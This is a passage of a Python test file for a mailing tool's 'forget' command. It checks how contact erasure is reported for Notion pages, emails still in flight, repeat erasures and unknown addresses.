        [enrollment] = conn.execute(sa.text("SELECT id FROM enrollment WHERE contact_id = :c"), {"c": linked}).scalars()
        notion_store.take_lease(conn, enrollment, linked, "test", services.clock(), timedelta(minutes=1))
        notion_store.save_synced(conn, enrollment, "test", services.clock(), page_id="page-1", page_url="https://x",
                                 synced_hash="h", business_page_id=None, business_checked_at=None)
    notion = {"NOTION_TOKEN": "secret_test", "NOTION_EMAIL_SEQUENCE_DB_ID": "db-test"}

    overwritten = cli("forget", "linked@example.com", **notion)
    by_hand = cli("forget", "unlinked@example.com", **notion)

    assert overwritten.returncode == by_hand.returncode == 0, overwritten.stderr + by_hand.stderr
    assert "Notion: their page is overwritten with the placeholder at the next sync." in overwritten.stdout
    assert "delete it there by hand" in by_hand.stdout


def test_forget_says_when_an_email_of_theirs_in_flight_keeps_their_address_for_a_while(cli, services, clock):
    enroll_now(services, [signup_request(email="midsend@example.com")])
    with db.write_transaction(services.engine) as conn:  # step 1 claimed: handed to Resend, or about to be
        claims.claim_due(conn, "worker-a", clock(), timedelta(minutes=5), 100)

    result = cli("forget", "midsend@example.com")

    assert result.returncode == 0, result.stderr
    assert "1 email of theirs was already being sent: the address and names it went with are kept apart until it " \
           "settles" in result.stdout
    assert [r["email"] for r in rows(services.engine, "SELECT email FROM erasure_hold")] == ["midsend@example.com"]
    assert rows(services.engine, "SELECT email FROM contact")[0]["email"].endswith("@erased.invalid")


def test_forgetting_an_address_again_says_when_it_was_erased_and_succeeds(cli, services, clock):
    enroll_now(services, [signup_request(email="gone@example.com")])
    with db.write_transaction(services.engine) as conn:  # erased on the test's clock, a known day
        erasure.forget(conn, "gone@example.com", actor="cli", now=clock())

    again = cli("forget", "  Gone@Example.com ")

    assert again.returncode == 0, again.stdout + again.stderr
    assert again.stdout == "gone@example.com was already erased on 2025-12-01\n" and again.stderr == ""
    assert len(rows(services.engine, "SELECT kind FROM event WHERE kind = 'contact_erased'")) == 1


def test_forgetting_an_address_never_seen_still_says_there_is_no_such_contact(cli, services):
    enroll_now(services, [signup_request(email="gone@example.com")])
    assert cli("forget", "gone@example.com").returncode == 0  # the salt exists: the lookup is a real one

    never = cli("forget", "stranger@example.com")

    assert never.returncode == 1
    assert never.stderr == "nurture: no contact with the address stranger@example.com\n" and never.stdout == ""
